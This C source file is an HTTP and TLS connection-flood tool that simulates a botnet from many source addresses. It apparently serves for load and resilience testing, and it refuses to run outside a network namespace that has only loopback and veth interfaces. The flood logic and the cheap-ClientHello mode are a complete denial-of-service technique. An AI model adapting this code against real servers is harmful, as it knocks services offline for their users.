/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * An HTTP flood inside a namespace: so many new connections a second from many source addresses, one request each, whether
 * the server answers or not (open loop: as a botnet, not as a polite client).
 *
 *   http_flood ADDRESS PORT SECONDS RATE FIRST SOURCES HOST [tls]     FIRST: the lowest source address, the others follow
 *
 * With "tls" a connection sends no request but one ClientHello for HOST, always the same: what the server does for it costs it
 * a signature, and the client nothing.
 *
 * Refuses to run where there is another interface than loopback and veth, and in the machine's own namespace, and needs its sources to be addresses of the namespace it runs
 * in. A connection is given up GIVE_UP_MS after its begin. Prints {"begun","answered","closed","given_up","unsent",
 * "last_answer_ms"}: answered with anything; closed or reset without an answer; nothing heard; not even begun, for all
 * places were taken; when the last answer came, counted from the begin.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netdb.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <openssl/ssl.h>

#include <linux/ethtool.h>
#include <linux/sockios.h>

#define SECONDS_MAX 60
#define RATE_MAX    50000
#define SOURCES_MAX 4096
#define PLACES	    32768
#define GIVE_UP_MS  500
#define EVENT_MAX   512

struct place {
	int fd; /* -1: free */
	int64_t began_us;
	bool sent;
};
struct run {
	const struct addrinfo *to;
	struct sockaddr_storage first;
	long sources, rate, seconds;
	char request[1024];
	size_t length;
	int epoll;
	int64_t began_us;
	long begun, answered, closed, given_up, unsent;
	int64_t last_answer_us;
};
static struct place place[PLACES];
static unsigned oldest, newest; /* places are taken in a ring: the oldest is given up first */

static int64_t now_us(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static long number(const char *text, long least, long most)
{
	char *end;
	long value = strtol(text, &end, 10);

	if (*end || value < least || value > most) {
		(void)fprintf(stderr, "http_flood: %s is not %ld..%ld\n", text, least, most);
		exit(2);
	}
	return value;
}

static bool is_pair(const char *name)
{
	struct ethtool_drvinfo driver = { .cmd = ETHTOOL_GDRVINFO };
	struct ifreq request = { .ifr_data = (void *)&driver };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	bool pair;

	(void)snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", name);
	pair = fd >= 0 && ioctl(fd, SIOCETHTOOL, &request) == 0 &&
	       strcmp(driver.driver, "veth") == 0;
	(void)close(fd);
	return pair;
}

/* Whoever calls this by mistake on a real network is stopped here: by the namespace, where it may be looked at, and by
 * every interface, which has to be loopback or one end of a pair. */
static void refuse_outside(void)
{
	struct if_nameindex *interface = if_nameindex();
	struct stat own, first;
	bool inside = interface != NULL;

	if (stat("/proc/self/ns/net", &own) < 0 ||
		(stat("/proc/1/ns/net", &first) == 0 && own.st_ino == first.st_ino))
		inside = false;
	for (struct if_nameindex *at = interface; inside && at->if_index; at++)
		inside = strcmp(at->if_name, "lo") == 0 || is_pair(at->if_name);
	if_freenameindex(interface);
	if (inside)
		return;
	(void)fprintf(stderr, "http_flood: runs only inside a network namespace made for it\n");
	exit(2);
}

static void end_place(struct run *run, struct place *at, long *how)
{
	struct linger reset = { 1, 0 };

	(void)run;
	(void)setsockopt(at->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	(void)close(at->fd);
	at->fd = -1;
	(*how)++;
}

static void source_of(const struct run *run, struct sockaddr_storage *out)
{
	uint32_t step = (uint32_t)(run->begun % run->sources);

	*out = run->first;
	if (out->ss_family == AF_INET) {
		struct sockaddr_in *four = (void *)out;

		four->sin_addr.s_addr = htonl(ntohl(four->sin_addr.s_addr) + step);
	} else {
		struct sockaddr_in6 *six = (void *)out;
		uint32_t last;

		memcpy(&last, six->sin6_addr.s6_addr + 12, sizeof(last));
		last = htonl(ntohl(last) + step);
		memcpy(six->sin6_addr.s6_addr + 12, &last, sizeof(last));
	}
}

static void begin(struct run *run, int64_t now)
{
	struct place *at = &place[newest % PLACES];
	struct sockaddr_storage source;
	struct epoll_event event = { .events = EPOLLIN | EPOLLOUT | EPOLLET,
		.data.u32 = newest % PLACES };
	int on = 1;

	if (newest - oldest == PLACES) {
		run->unsent++;
		return;
	}
	source_of(run, &source);
	at->fd = socket(run->to->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (at->fd < 0) {
		run->unsent++;
		return;
	}
	(void)setsockopt(at->fd, IPPROTO_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &on, sizeof(on));
	if (bind(at->fd, (void *)&source, run->to->ai_addrlen) < 0) {
		perror("http_flood: a source is no address of this namespace");
		exit(2);
	}
	if ((connect(at->fd, run->to->ai_addr, run->to->ai_addrlen) < 0 && errno != EINPROGRESS) ||
		epoll_ctl(run->epoll, EPOLL_CTL_ADD, at->fd, &event) < 0) {
		(void)close(at->fd);
		at->fd = -1;
		run->unsent++;
		return;
	}
	at->began_us = now;
	at->sent = false;
	newest++;
	run->begun++;
}

static void happened(struct run *run, const struct epoll_event *event, int64_t now)
{
	struct place *at = &place[event->data.u32];
	char answer[2048];
	ssize_t got;

	if (at->fd < 0)
		return;
	if (!at->sent && (event->events & EPOLLOUT) && !(event->events & (EPOLLERR | EPOLLHUP))) {
		at->sent = true;
		if (send(at->fd, run->request, run->length, MSG_NOSIGNAL) != (ssize_t)run->length) {
			end_place(run, at, &run->closed);
			return;
		}
	}
	if (!(event->events & (EPOLLIN | EPOLLERR | EPOLLHUP)))
		return;
	got = recv(at->fd, answer, sizeof(answer), 0);
	if (got > 0) {
		run->last_answer_us = now;
		end_place(run, at, &run->answered);
	} else if (got == 0 || errno != EAGAIN) {
		end_place(run, at, &run->closed);
	}
}

static void give_up_old(struct run *run, int64_t now)
{
	while (oldest != newest) {
		struct place *at = &place[oldest % PLACES];

		if (at->fd >= 0) {
			if (now - at->began_us < GIVE_UP_MS * 1000)
				return;
			end_place(run, at, &run->given_up);
		}
		oldest++;
	}
}

static void flood(struct run *run)
{
	struct epoll_event event[EVENT_MAX];
	int64_t now = now_us(), ends = now + run->seconds * 1000000, due = 0;

	run->began_us = now;
	while (now < ends || oldest != newest) {
		int count = epoll_wait(run->epoll, event, EVENT_MAX, 1);

		now = now_us();
		for (int i = 0; i < count; i++)
			happened(run, &event[i], now);
		give_up_old(run, now);
		if (now >= ends)
			continue;
		for (int64_t want = (now - run->began_us) * run->rate / 1000000; due < want; due++)
			begin(run, now);
	}
}

/* What OpenSSL would send first; its length, 0: it could not be made. */
static size_t hello_make(const char *host, char *out, size_t size)
{
	SSL_CTX *context = SSL_CTX_new(TLS_client_method());
	SSL *ssl = context ? SSL_new(context) : NULL;
	BIO *in = BIO_new(BIO_s_mem()), *sent = BIO_new(BIO_s_mem());
	char name[TLSEXT_MAXLEN_host_name + 1]; /* OpenSSL's macro takes no constant */
	int length = 0;

	(void)snprintf(name, sizeof(name), "%s", host);
	if (ssl && in && sent && SSL_set_tlsext_host_name(ssl, name) == 1) {
		SSL_set_bio(ssl, in, sent);
		(void)SSL_connect(ssl); /* waits for an answer */
		length = BIO_read(sent, out, (int)size);
	}
	SSL_free(ssl);
	SSL_CTX_free(context);
	return length > 0 && (size_t)length < size ? (size_t)length : 0;
}

static size_t request_make(const char *host, bool tls, char *out, size_t size)
{
	if (tls)
		return hello_make(host, out, size);
	return (size_t)snprintf(
		out, size, "GET / HTTP/1.1\r\nHost: %.200s\r\nUser-Agent: flood\r\n\r\n", host);
}

int main(int argc, char **argv)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM,
		.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV };
	struct addrinfo *to, *first;
	struct rlimit files;
	struct run run = { 0 };

	refuse_outside();
	if (argc < 8 || argc > 9 || (argc == 9 && strcmp(argv[8], "tls") != 0) ||
		getaddrinfo(argv[1], argv[2], &hints, &to) != 0 ||
		getaddrinfo(argv[5], "0", &hints, &first) != 0 ||
		first->ai_family != to->ai_family) {
		(void)fprintf(stderr,
			"usage: http_flood ADDRESS PORT SECONDS RATE FIRST SOURCES HOST [tls]\n");
		return 2;
	}
	run.to = to;
	memcpy(&run.first, first->ai_addr, first->ai_addrlen);
	run.seconds = number(argv[3], 1, SECONDS_MAX);
	run.rate = number(argv[4], 1, RATE_MAX);
	run.sources = number(argv[6], 1, SOURCES_MAX);
	run.length = request_make(argv[7], argc == 9, run.request, sizeof(run.request));
	run.epoll = epoll_create1(EPOLL_CLOEXEC);
	if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
		files.rlim_cur = files.rlim_max; /* what has no descriptor is counted as unsent */
		(void)setrlimit(RLIMIT_NOFILE, &files);
	}
	if (run.epoll < 0 || run.length == 0) {
		perror("http_flood");
		return 2;
	}
	for (unsigned i = 0; i < PLACES; i++)
		place[i].fd = -1;
	flood(&run);
	freeaddrinfo(first);
	freeaddrinfo(to);
	(void)printf(
		"{\"begun\":%ld,\"answered\":%ld,\"closed\":%ld,\"given_up\":%ld,\"unsent\":%ld,"
		"\"last_answer_ms\":%ld}\n",
		run.begun, run.answered, run.closed, run.given_up, run.unsent,
		run.last_answer_us ? (long)((run.last_answer_us - run.began_us) / 1000) : 0);
	return 0;
}
